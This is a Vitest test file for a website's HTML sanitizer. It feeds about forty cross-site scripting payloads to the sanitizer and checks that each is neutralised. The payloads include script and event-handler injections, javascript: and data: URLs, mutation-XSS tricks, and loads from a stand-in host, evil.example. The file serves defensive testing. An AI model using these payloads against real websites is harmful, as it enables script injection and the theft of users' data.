import { describe, expect, it } from 'vitest';
import { env } from '@/config/env';
import { sanitizeHtml } from './sanitize-html';

/**
 * Script-injection payloads a compromised or careless CMS could send (the sandbox's page 10,
 * 'teste-seguranca', carries the same kinds; tests/e2e/security.spec.ts renders it in Chromium).
 */
const PAYLOADS = [
  ['script element', '<script>window.__xss = 1</script>'],
  ['script with a source', '<script src="https://evil.example/x.js"></script>'],
  ['img onerror', '<img src="x" onerror="window.__xss = 1">'],
  ['img onerror, unquoted', '<img src=x onerror=window.__xss=1>'],
  ['svg onload', '<svg onload="window.__xss = 1"><circle r="1"></circle></svg>'],
  ['svg script', '<svg><script>window.__xss = 1</script></svg>'],
  ['javascript: link', '<a href="javascript:window.__xss = 1">link</a>'],
  ['mixed-case javascript: link', '<a href="  JaVaScRiPt:window.__xss = 1">link</a>'],
  ['entity-split javascript: link', '<a href="java&#x09;script:window.__xss = 1">link</a>'],
  ['entity-encoded javascript: link', '<a href="&#106;avascript:window.__xss = 1">link</a>'],
  ['data: link', '<a href="data:text/html,<script>window.__xss = 1</script>">link</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">link</a>'],
  ['iframe javascript:', '<iframe src="javascript:window.__xss = 1"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>'],
  ['object', '<object data="javascript:window.__xss = 1"></object>'],
  ['embed', '<embed src="javascript:window.__xss = 1">'],
  ['event attribute', '<p onclick="window.__xss = 1">texto</p>'],
  ['mouse event on a div', '<div onmouseover="window.__xss = 1">texto</div>'],
  ['details ontoggle', '<details open ontoggle="window.__xss = 1"><summary>x</summary></details>'],
  ['input autofocus', '<input autofocus onfocus="window.__xss = 1">'],
  ['form action', '<form action="javascript:window.__xss = 1"><button>Enviar</button></form>'],
  ['button formaction', '<button formaction="javascript:window.__xss = 1">Enviar</button>'],
  ['style element', '<style>@import "https://evil.example/x.css"; body { display: none }</style>'],
  ['style attribute', '<p style="background: url(javascript:window.__xss = 1)">texto</p>'],
  ['overlay by style', '<div style="position: fixed; inset: 0; z-index: 9999">texto</div>'],
  ['base element', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss = 1">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['template', '<template><img src=x onerror="window.__xss = 1"></template>'],
  [
    'mutation XSS through math',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 1"></style></mglyph></table></mtext></math>',
  ],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">'],
  ['video poster', '<video poster="javascript:window.__xss = 1"></video>'],
  [
    'table background',
    '<table background="javascript:window.__xss = 1"><tr><td>x</td></tr></table>',
  ],
  ['protocol-relative link', '<a href="//evil.example">link</a>'],
  ['backslash link', '<a href="/\\evil.example">link</a>'],
  ['link to another host', '<a href="https://evil.example/login">link</a>'],
  ['tracking image on another host', '<img src="https://evil.example/pixel.gif" alt="">'],
  ['protocol-relative image', '<img src="//evil.example/pixel.gif" alt="">'],
  ['data attribute', '<p data-x="javascript:alert(1)">texto</p>'],
  ['target on a form-less element', '<p target="_top">texto</p>'],
] as const;

function render(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = sanitizeHtml(html);
  return container;
}

const FORBIDDEN_ELEMENTS =
  'script, style, iframe, frame, object, embed, form, input, button, base, meta, link, template, svg, math, noscript';

describe('sanitizeHtml', () => {
  it.each(PAYLOADS)('leaves nothing executable or off-site: %s', (_, payload) => {
    const container = render(`<p>antes</p>${payload}<p>depois</p>`);

    expect(container.querySelector(FORBIDDEN_ELEMENTS)).toBeNull();
    for (const element of Array.from(container.querySelectorAll('*'))) {
      for (const { name, value } of Array.from(element.attributes)) {
        expect(name, `${element.tagName} ${name}`).not.toMatch(/^on/i);
        expect(['style', 'srcdoc', 'action', 'formaction', 'background', 'poster']).not.toContain(
          name,
        );
        expect(value, `${element.tagName} ${name}`).not.toMatch(/^\s*(javascript|data|vbscript):/i);
      }
    }
    for (const element of Array.from(container.querySelectorAll('[href], [src]'))) {
      const url = element.getAttribute('href') ?? element.getAttribute('src') ?? '';
      // Only this site's own paths survive these payloads.
      expect(url, element.outerHTML).toMatch(/^\/(?![/\\])/);
    }
    expect(container.innerHTML).not.toContain('__xss');
    // What came before is intact (what follows may be swallowed by a deliberately broken tag).
    expect(container.textContent).toContain('antes');
  });

  it('keeps the text of a refused link, without the link', () => {
    const container = render('<a href="javascript:alert(1)">Link malicioso</a>');
    const anchor = container.querySelector('a');
    expect(anchor?.textContent).toBe('Link malicioso');
    expect(anchor).not.toHaveAttribute('href');
  });

  it.each([
    ['a site path', '/hoteis', '/hoteis'],
    ['an in-page anchor', '#estrutura', '#estrutura'],
    ['an e-mail', 'mailto:eventos@aurora.example', 'mailto:eventos@aurora.example'],
    ['a phone', 'tel:+556434539000', 'tel:+556434539000'],
    ['a configured external page', env.links.vipClub, env.links.vipClub],
  ])('keeps %s', (_, href, kept) => {
    expect(render(`<a href="${href}">x</a>`).querySelector('a')).toHaveAttribute('href', kept);
  });

  it('keeps images of the site and of allowed hosts', () => {
    const container = render(
      `<img src="/admin/uploads/piscina.jpg" alt="Piscina"><img src="${env.links.vipClub}/logo.png" alt="Logo">`,
    );
    expect(Array.from(container.querySelectorAll('img')).map((img) => img.alt)).toEqual([
      'Piscina',
      'Logo',
    ]);
  });
});
